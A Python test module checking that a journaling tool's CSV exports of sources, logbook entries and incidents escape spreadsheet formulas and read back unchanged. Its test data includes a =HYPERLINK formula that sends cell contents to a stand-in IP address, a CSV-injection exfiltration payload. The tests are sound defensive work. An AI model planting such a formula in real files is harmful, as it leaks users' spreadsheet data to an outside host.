"""What a spreadsheet would take for a formula goes through import and export as text, and comes back so.

What such cells begin with, and the quotation mark before them: OWASP, CSV Injection.
"""

import csv
from contextlib import closing

import pytest

from daemon.commands.cli import main
from daemon.journal.history import Entry
from daemon.journal.journal import Journal
from daemon.tune.incidents import Mark, read_marks, write_marks
from rules.tuning.incident import Incident
from tests.rigs.bench import START_MS, Bench, swinging

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"look")'
NAMES = [FORMULA, "+1+1", "-2+3", "@SUM(A1)"]
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")


def cells(path):
    """Every cell of a CSV that is no number, as a spreadsheet reads it."""
    with path.open(newline="", encoding="utf-8") as file:
        rows = [row for row in csv.reader(file) if row and not row[0].startswith("#")]
    return [cell for row in rows for cell in row if not cell.lstrip("+-").replace(".", "").isdecimal()]


@pytest.mark.parametrize("name", NAMES)
def test_a_record_holds_no_formula_and_is_read_back_as_it_was(tmp_path, name):
    """Vessel and probe are called whatever the journal says."""
    made = tmp_path / "made"
    made.mkdir()
    bench = Bench(made)
    bench.take(swinging(2))
    with bench.journal.transaction():
        bench.journal.inputs.source_id(name, "temperature", name)
    bench.power_cut()
    record, again = tmp_path / "record", tmp_path / "again.sqlite"
    assert main(["export", str(record), "--journal", str(bench.path)]) == 0
    assert not [cell for path in record.glob("*.csv") for cell in cells(path) if cell.startswith(BEGINNINGS)]
    assert main(["import", str(record), str(again)]) == 0
    with closing(Journal(again, writable=False)) as held:
        assert (name, "temperature", name) in held.inputs.sources().values()


@pytest.mark.parametrize("name", NAMES)
def test_nor_does_a_logbook(tmp_path, name):
    bench = Bench(tmp_path)
    bench.take(swinging(2))
    with bench.journal.transaction():
        bench.journal.history.keep_entry(Entry(9, "note", START_MS, name, name, {"note": name}))
    bench.power_cut()
    out = tmp_path / "out.csv"
    assert main(["export", str(out), "--logbook", "--journal", str(bench.path)]) == 0
    assert f"'{name}" in cells(out)
    assert not [cell for cell in cells(out) if cell.startswith(BEGINNINGS)]


@pytest.mark.parametrize("name", NAMES)
def test_nor_do_incidents(tmp_path, name):
    marks, path = [Mark(Incident(1000, 2000, name, name, True), "accepted", name)], tmp_path / "incidents.csv"
    write_marks(path, marks)
    assert not [cell for cell in cells(path) if cell.startswith(BEGINNINGS)]
    assert read_marks(path) == marks
